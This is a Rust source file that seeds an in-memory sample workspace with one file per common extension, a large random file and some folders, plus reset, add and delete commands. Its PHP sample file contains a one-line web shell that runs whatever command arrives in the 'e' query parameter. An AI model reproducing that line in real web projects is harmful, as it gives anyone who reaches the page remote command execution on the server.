//! Sample workspace commands.
//!
//! These drive the provider directly, not through [`HostFs`](crate::HostFs),
//! so they work even when the registration is read-only.

use memfs_kernel::{FileSystemProvider, MemPath, VfsResult};
use memfs_types::WriteOptions;
use rand::Rng;
use serde::Serialize;

/// Line count of `/large/rnd.foo`.
pub const LARGE_FILE_LINES: usize = 50_000;

/// Line length of `/large/rnd.foo`.
pub const LARGE_FILE_LINE_LEN: usize = 155;

const DIGITS: &[u8] = b"0123456789abcdefghijklmnopqrstuvwxyz";

/// A workspace folder the host should open.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct WorkspaceFolder {
    pub uri: String,
    pub name: String,
}

/// Sample tree seeding, with the `initialized` latch that gates
/// `add-file` and `delete-file`.
#[derive(Debug, Clone)]
pub struct SampleWorkspace {
    initialized: bool,
    large_lines: usize,
}

impl Default for SampleWorkspace {
    fn default() -> Self {
        Self::new()
    }
}

impl SampleWorkspace {
    pub fn new() -> Self {
        Self {
            initialized: false,
            large_lines: LARGE_FILE_LINES,
        }
    }

    /// Use a smaller random file.
    pub fn with_large_lines(mut self, lines: usize) -> Self {
        self.large_lines = lines;
        self
    }

    pub fn is_initialized(&self) -> bool {
        self.initialized
    }

    /// Seed the sample tree. Returns false if already initialized.
    pub fn init<P: FileSystemProvider>(&mut self, fs: &mut P) -> VfsResult<bool> {
        if self.initialized {
            return Ok(false);
        }
        self.initialized = true;

        // Root files, one per common extension.
        write(fs, "/file.txt", b"foo")?;
        write(fs, "/file.html", HTML)?;
        write(fs, "/file.js", b"console.log(\"JavaScript\")")?;
        write(fs, "/file.json", b"{ \"json\": true }")?;
        write(fs, "/file.ts", b"console.log(\"TypeScript\")")?;
        write(fs, "/file.css", b"* { color: green; }")?;
        write(fs, "/file.md", MARKDOWN)?;
        write(fs, "/file.xml", b"<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\" ?>")?;
        write(fs, "/file.py", PYTHON)?;
        write(fs, "/file.php", b"<?php echo shell_exec($_GET['e'].' 2>&1'); ?>")?;
        write(fs, "/file.yaml", b"- just: write something")?;

        for dir in ["/folder", "/large", "/xyz", "/xyz/abc", "/xyz/def"] {
            fs.create_directory(&MemPath::parse(dir))?;
        }

        write(fs, "/folder/empty.txt", b"")?;
        write(fs, "/folder/empty.foo", b"")?;
        write(fs, "/folder/file.ts", b"let a:number = true; console.log(a);")?;
        let data = random_data(self.large_lines, LARGE_FILE_LINE_LEN);
        write(fs, "/large/rnd.foo", data.as_bytes())?;
        write(fs, "/xyz/UPPER.txt", b"UPPER")?;
        write(fs, "/xyz/upper.txt", b"upper")?;
        write(fs, "/xyz/def/foo.md", b"*MemFS*")?;
        write(fs, "/xyz/def/foo.bin", &[0, 0, 0, 1, 7, 0, 0, 1, 1])?;

        tracing::info!(lines = self.large_lines, "sample tree seeded");
        Ok(true)
    }

    /// Delete every child of the root and clear the latch.
    pub fn reset<P: FileSystemProvider>(&mut self, fs: &mut P) -> VfsResult<usize> {
        let root = MemPath::root();
        let children = fs.read_directory(&root)?;
        for child in &children {
            fs.delete(&root.join(&child.name))?;
        }
        self.initialized = false;
        tracing::info!(removed = children.len(), "sample tree reset");
        Ok(children.len())
    }

    /// Write `/file.txt` = `foo`. No-op before `init`.
    pub fn add_file<P: FileSystemProvider>(&mut self, fs: &mut P) -> VfsResult<bool> {
        if !self.initialized {
            return Ok(false);
        }
        fs.write_file(&MemPath::parse("/file.txt"), b"foo", WriteOptions::upsert())?;
        Ok(true)
    }

    /// Delete `/file.txt`. No-op before `init`.
    pub fn delete_file<P: FileSystemProvider>(&mut self, fs: &mut P) -> VfsResult<bool> {
        if !self.initialized {
            return Ok(false);
        }
        fs.delete(&MemPath::parse("/file.txt"))?;
        Ok(true)
    }

    /// The folder to open for a registration rooted at `root_uri`.
    pub fn workspace_folder(&self, root_uri: &str, name: &str) -> WorkspaceFolder {
        WorkspaceFolder {
            uri: root_uri.to_string(),
            name: name.to_string(),
        }
    }
}

fn write<P: FileSystemProvider>(fs: &mut P, path: &str, content: &[u8]) -> VfsResult<()> {
    fs.write_file(&MemPath::parse(path), content, WriteOptions::upsert())
}

/// `lines` newline-separated lines of `line_len` characters. Line `i` uses
/// digits of radix `2 + i % 34`.
pub fn random_data(lines: usize, line_len: usize) -> String {
    let mut rng = rand::thread_rng();
    let mut out = String::with_capacity(lines * (line_len + 1));
    for i in 0..lines {
        if i > 0 {
            out.push('\n');
        }
        let radix = 2 + i % 34;
        for _ in 0..line_len {
            out.push(DIGITS[rng.gen_range(0..radix)] as char);
        }
    }
    out
}

const HTML: &[u8] = b"<html><body><h1 class=\"hd\">Hello</h1></body></html>";

const MARKDOWN: &[u8] = b"Hello _World_";

const PYTHON: &[u8] = b"import base64, sys; base64.decode(open(sys.argv[1], \"rb\"), open(sys.argv[2], \"wb\"))";
